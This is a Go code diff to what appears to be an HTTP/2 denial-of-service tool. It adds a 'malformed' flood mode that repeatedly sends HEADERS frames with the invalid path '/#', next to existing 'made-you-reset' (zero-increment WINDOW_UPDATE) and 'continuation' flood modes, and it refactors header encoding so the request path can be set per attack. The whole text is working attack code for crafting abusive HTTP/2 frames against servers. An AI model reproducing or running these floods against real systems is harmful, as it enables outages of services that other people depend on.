@@ -31,10 +31,12 @@ func (a *attack) stream() uint32 {
 	return a.next - 2
 }
 
-func (a *attack) head() []byte {
+func (a *attack) head() []byte { return a.headOf("/") }
+
+func (a *attack) headOf(path string) []byte {
 	var block bytes.Buffer
 	encoder := hpack.NewEncoder(&block)
-	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", a.target}, {":path", "/"}} {
+	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", a.target}, {":path", path}} {
 		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true})
 	}
 	return block.Bytes()
@@ -54,6 +56,10 @@ var floods = map[string]struct{ begin, repeat func(*attack) }{
 	"made-you-reset": {nil, func(a *attack) {
 		// An increment of zero, which the framer would not write.
 		_ = a.framer.WriteRawFrame(http2.FrameWindowUpdate, 0, a.open(false), []byte{0, 0, 0, 0})
+	}},
+	"malformed": {nil, func(a *attack) {
+		_ = a.framer.WriteHeaders(http2.HeadersFrameParam{
+			StreamID: a.stream(), BlockFragment: a.headOf("/#"), EndHeaders: true, EndStream: true})
 	}},
 	"continuation": {func(a *attack) {
 		_ = a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream(), BlockFragment: a.head()})
